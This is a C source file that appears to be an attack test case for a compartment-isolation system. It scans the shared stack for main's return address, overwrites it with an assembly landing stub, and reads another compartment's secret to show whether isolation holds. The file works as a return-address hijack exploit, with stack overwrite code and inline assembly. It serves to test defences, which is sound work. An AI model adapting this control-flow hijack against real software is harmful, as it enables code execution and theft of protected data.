/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Return hijack: find main's return address on the stack the attacker runs on (the light gate shares
 * one stack) and replace it with code of the attacker's, then return normally.  The gate's return half
 * switches to the core's domain and `ret` lands in the attacker's code, which copies the core's secret
 * (app_secret).  Under private stacks main's frame is on the core's own stack: nothing to find.
 */
#include "loot.h"

void rethijack_landing(void);
__attribute__((used)) void rethijack_resumed(void);

/* Entered by a RET (stack 16-aligned): realign for C. */
__asm__(".text\n.globl rethijack_landing\nrethijack_landing:\n\tsubq $8, %rsp\n\tcall rethijack_resumed\n\tud2\n");

void rethijack_resumed(void)
{
	/* Looked up at run time: the pass refuses a component's assembly that names another
	 * compartment's symbols (passes/README.md, "No escape from placement"). */
	const volatile char *s = (const volatile char *)attacks_lookup("app_secret");
	attack_take(s);
	attack_not_contained("resumed in the core's domain through a hijacked return");
}

const char *attack_name(void) { return "rethijack: overwrite main's return address on the shared stack"; }

__attribute__((noinline)) void attack(void)
{
	uintptr_t main_at = attacks_lookup("main"), land;
	__asm__ volatile("leaq rethijack_landing(%%rip), %0" : "=r"(land));
	volatile uintptr_t *sp = (volatile uintptr_t *)__builtin_frame_address(0);
	for (int i = 0; i < 64; i++)
		if (sp[i] > main_at && sp[i] < main_at + 0x800) {
			bh_printf("attacks: main's return address at %p (frame +%d), replaced\n", (void *)&sp[i], i);
			sp[i] = land;
			return;
		}
	bh_printf("attacks: no return address into main on the attacker's stack\n");
	bh_exit(10);
}
